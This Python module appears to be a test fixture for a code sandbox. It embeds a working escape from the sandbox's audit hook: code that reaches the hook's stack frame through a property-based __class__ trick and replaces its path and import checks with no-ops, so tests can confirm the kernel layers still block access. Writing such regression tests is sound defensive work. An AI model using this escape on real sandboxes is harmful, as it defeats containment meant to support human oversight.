"""The escape reported against the code sandbox's audit hook, as code for a code block.

`BYPASS + "def attempt(...): ..."` is a code block's source: its `main(**inputs)` first
switches off the hook's path checks, then calls `attempt(**inputs)` and returns
`{"switched_off": …, "outcome": …, "detail": …}`: outcome "allowed" (detail: the value
returned), "nothing" (it returned []), an errno name (ENOENT, EACCES, EROFS, …) or an
exception's class name. The kernel layers must refuse whatever the hook no longer does.
"""

from __future__ import annotations

BYPASS = '''
import errno, os, sqlite3, sys

def _switch_off_the_guard():
    """The escape reported against the audit hook: run code inside it, reach its frame,
    replace the code of its path checks (and import check) with no-ops."""
    replaced = []

    def rewrite(hook_frame):
        closures = hook_frame.f_locals
        for name, result in (("text", "None"), ("inside", "True"), ("check_import", "None")):
            function = closures[name]
            free = function.__code__.co_freevars
            source = (
                "def outer():\\n    " + " = ".join([*free, "None"])
                + "\\n    def f(*args):\\n        " + ("; ".join(free) or "pass")
                + "\\n        return " + result + "\\n    return f\\n"
            )
            scope = {}
            exec(source, scope)
            function.__code__ = scope["outer"]().__code__
            replaced.append(name)

    class Path:
        @property
        def __class__(self):
            rewrite(sys._getframe(1).f_back)  # 0: this getter, 1: the hook's text(), 2: the hook
            return str

    try:
        sqlite3.connect(Path())
    except Exception:
        pass
    try:
        open("/flowgate-no-such-file")
    except Exception as exc:
        probe = type(exc).__name__  # Forbidden while the hook checks paths
    return replaced == ["text", "inside", "check_import"] and probe == "FileNotFoundError"

def main(**paths):
    switched_off = _switch_off_the_guard()
    try:
        detail = attempt(**paths)
        outcome = "nothing" if detail == [] else "allowed"
    except OSError as exc:
        outcome, detail = errno.errorcode.get(exc.errno, str(exc.errno)), str(exc)
    except Exception as exc:
        outcome, detail = type(exc).__name__, str(exc)
    return {"switched_off": switched_off, "outcome": outcome, "detail": detail}

'''
